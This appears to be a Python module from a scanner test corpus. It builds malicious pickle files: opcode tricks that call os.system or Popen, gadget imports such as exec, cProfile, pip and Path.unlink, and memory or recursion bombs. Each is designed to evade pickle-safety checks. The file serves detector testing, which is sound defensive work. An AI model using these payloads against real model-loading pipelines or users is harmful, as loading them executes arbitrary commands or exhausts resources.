"""Bad pickles: tricks with instructions, gadgets that are no obvious danger, and bombs."""

from __future__ import annotations

import struct

from momus.zoo.supply_chain.corpus import COMMAND, Artifact, blob, call, named, payload, stream, text

_SYSTEM = named("posix", "system")
_TOUCH = f"__import__('os').system('{COMMAND}')"


def files() -> tuple[Artifact, ...]:
    """All bad pickles."""
    return (*_tricks(), *_gadgets(), *_bombs())


def _tricks() -> list[Artifact]:
    command = text(COMMAND)
    quoted = f"S'{COMMAND}'\n".encode()
    memo = text("posix") + b"\x94" + b"0" + text("system") + b"\x94" + b"0h\x00h\x01\x93" + command + b"\x85R"
    computed = call(named("builtins", "str"), blob(b"posix"), text("ascii")) + text("system") + b"\x93" + command
    module = call(named("importlib", "import_module"), text("os"))
    chain = call(call(named("builtins", "getattr"), module, text("system")), command)
    dotted = text("genericpath") + text("os.system") + b"\x93" + command + b"\x85R"
    space = call(named("types", "SimpleNamespace"))
    setstate = space + b"}" + text("__setstate__") + _SYSTEM + b"sb" + command + b"b"
    changed = named("argparse", "Namespace") + b"(N}" + text("__call__") + _SYSTEM + b"stb"
    made = [
        ("reduce protocol 4", payload(), "pickle"),
        ("reduce protocol 0", b"cposix\nsystem\n(" + quoted + b"tR.", "pickle"),
        ("instance opcode", b"(" + quoted + b"iposix\nsystem\n.", "pickle"),
        ("object opcode", b"(cposix\nsystem\n" + quoted + b"o.", "pickle"),
        ("pickle in a pickle", stream(call(named("_pickle", "loads"), blob(payload()))), "pickle"),
        ("names in the memo", stream(memo), "pickle"),
        ("name put together", stream(computed + b"\x85R"), "pickle"),
        ("getattr chain", stream(chain), "pickle"),
        ("dotted name", stream(dotted), "pickle"),
        ("own __setstate__", stream(setstate), "pickle"),
        ("class changed in place", stream(changed), ""),
        ("extension registry", stream(b"\x82\x2a)R"), ""),
        ("junk behind STOP", payload() + bytes(range(256)) * 4, "pickle"),
        ("second stream", stream(b"}") + payload(), "twice"),
        ("tail breaks off", payload()[:-1] + b"\xff\xff", "pickle"),
        ("persistent id of a call", stream(call(_SYSTEM, command) + b"0N"), "pickle"),
        (
            "python 2 name",
            b"\x80\x02cposix\npopen\n0c__builtin__\neval\n(X"
            + struct.pack("<I", len(_TOUCH))
            + _TOUCH.encode()
            + b"tR.",
            "",
        ),
        ("class through NEWOBJ", stream(named("subprocess", "Popen") + b")\x81"), ""),
    ]
    late = {"persistent id of a call", "python 2 name", "class through NEWOBJ"}
    return [Artifact(n, "opcode tricks", f"trick{i}.pkl", d, how, n in late) for i, (n, d, how) in enumerate(made)]


def _gadgets() -> list[Artifact]:
    command, source = text(COMMAND), text(_TOUCH)
    resolved = call(named("logging.config", "_resolve"), text("os.system"))
    legacy = _legacy_header() + payload()
    mapped = named("numpy", "memmap") + b"(" + text("victim.bin") + text("uint8") + text("w+") + b"t\x81"
    path = call(named("pathlib", "PosixPath"), text("x"))
    unlink = call(named("builtins", "getattr"), path, text("unlink"))
    partial = call(named("functools", "partial"), _SYSTEM, command)
    made = [
        ("timeit", call(named("timeit", "timeit"), source, text("pass"), text("t")), ""),
        ("cProfile", call(named("cProfile", "run"), source), "pickle"),
        ("pip", call(named("pip._internal.cli.main", "main"), b"]" + text("download") + b"a"), ""),
        ("doctest", call(named("doctest", "debug_src"), text(">>> 1\n")), ""),
        ("logging resolver", call(resolved, command), "pickle"),
        ("torch storage bytes", call(named("torch.storage", "_load_from_bytes"), blob(legacy)), "pickle"),
        ("pandas loader", call(named("pandas.io.pickle", "read_pickle"), text("other.pkl")), ""),
        ("joblib loader", call(named("joblib.numpy_pickle", "load"), text("other.joblib")), ""),
        ("unknown module", call(named("corpnet.layers", "Attention"), b"K\x08"), ""),
        ("runpy", call(named("runpy", "run_path"), text("setup.py")), ""),
        ("exec", call(named("builtins", "exec"), source), "pickle"),
        ("partial", call(partial), "pickle"),
        ("method caller", call(call(named("operator", "methodcaller"), text("system"), command),
                               call(named("importlib", "import_module"), text("os"))), "pickle"),
        ("numpy memory map", mapped, ""),
        ("path removed", call(unlink), ""),
    ]  # fmt: skip
    late = {"numpy memory map", "path removed"}
    return [
        Artifact(n, "gadget imports", f"gadget{i}.pkl", stream(d), how, n in late) for i, (n, d, how) in enumerate(made)
    ]


def _legacy_header() -> bytes:
    """The first three pickles of a checkpoint from before torch 1.6."""
    magic = stream(b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19", 2)
    system = b"}(" + text("protocol_version") + b"M\xe9\x03" + text("little_endian") + b"\x88u"
    return magic + stream(b"M\xe9\x03", 2) + stream(system)


def _bombs() -> list[Artifact]:
    doubling = b")" + b"2\x86" * 40
    through_memo = b"]\x940" + b"".join(b"](" + b"h" + bytes([i]) + b"h" + bytes([i]) + b"e\x940" for i in range(60))
    backwards = b"".join(b"]q" + bytes([i]) + b"0" for i in range(61))
    backwards += b"".join(b"h" + bytes([i]) + (b"h" + bytes([i + 1]) + b"a") * 2 + b"0" for i in range(60)) + b"h\x00"
    made = [
        ("expansion by DUP", stream(doubling), False),
        ("length of 32 TiB", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 45) + b"abc", False),
        ("nested 200,000 deep", stream(b"]" * 200_000 + b"a" * 199_999), False),
        ("expansion through the memo", stream(through_memo + b"h\x3c"), True),
        ("expansion filled in later", stream(backwards), True),
        ("memo index of 2^31", stream(b"Nr\xff\xff\xff\x7f"), True),
    ]
    return [Artifact(n, "resource bombs", f"bomb{i}.pkl", d, "", late) for i, (n, d, late) in enumerate(made)]
